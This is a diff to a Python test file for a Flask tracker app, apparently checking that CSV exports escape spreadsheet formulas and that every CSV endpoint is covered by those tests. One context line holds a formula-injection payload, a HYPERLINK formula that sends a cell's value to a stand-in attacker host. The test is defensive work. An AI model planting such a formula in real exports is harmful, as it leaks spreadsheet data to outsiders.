@@ -17,6 +17,7 @@ from tests.api.test_leads import api
 from tests.api.test_reports import days_ago, deal, identified, pageview
 from tests.factories import SiteMaker, drain_queue
 from tracker.csv_export import FORMULA_PREFIXES
+from tracker.dashboard.overview import REPORT_NAMES
 from tracker.sites import CreatedSite
 
 CAMPAIGN = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
@@ -41,6 +42,7 @@ API_EXPORTS = {
     "/api/v1/reports/win-rates?format=csv&group_by=owner": "'" + OWNER,
     "/api/v1/reports/trend?format=csv": None,
     "/api/v1/reports/leads?format=csv": "'" + EMAIL,
+    "/api/v1/reports/paths?format=csv": "'" + CHANNEL,
 }
 DASHBOARD_EXPORTS = {
     "/dashboard/export/revenue.csv": "'" + CHANNEL,
@@ -48,6 +50,7 @@ DASHBOARD_EXPORTS = {
     "/dashboard/export/funnel.csv": "'" + CHANNEL,
     "/dashboard/export/models.csv": "'" + CHANNEL,
     "/dashboard/export/trend.csv": None,
+    "/dashboard/leads.csv": "'" + EMAIL,
 }
 
 
@@ -61,6 +64,20 @@ def site(client: FlaskClient, sites: SiteMaker, db_session: Session) -> CreatedS
     deal(db_session, site.site.id, "D1", 1, status="won", closed_at=days_ago(1))
     drain_queue(client.application)
     return site
+
+
+def test_the_tables_name_every_csv_endpoint(app: Flask) -> None:
+    """A new CSV endpoint (a report, a dashboard download) joins the tables above."""
+    reports = {rule.rule.rsplit("/", 1)[1] for rule in app.url_map.iter_rules()
+               if rule.rule.startswith("/api/v1/reports/") and "<" not in rule.rule}
+    downloads = {rule.rule for rule in app.url_map.iter_rules()
+                 if rule.rule.startswith("/dashboard") and rule.rule.endswith(".csv")}
+    tested = {path.split("?")[0] for path in [*API_EXPORTS, *DASHBOARD_EXPORTS]}
+
+    # calls: a report of its own (tests/api/test_calls.py), not offered as CSV
+    assert {f"/api/v1/reports/{name}" for name in reports - {"calls"}} <= tested
+    assert {f"/dashboard/export/{name}.csv" for name in REPORT_NAMES} <= tested
+    assert downloads - {"/dashboard/export/<report>.csv"} <= tested
 
 
 def _cells(text: str) -> list[str]:
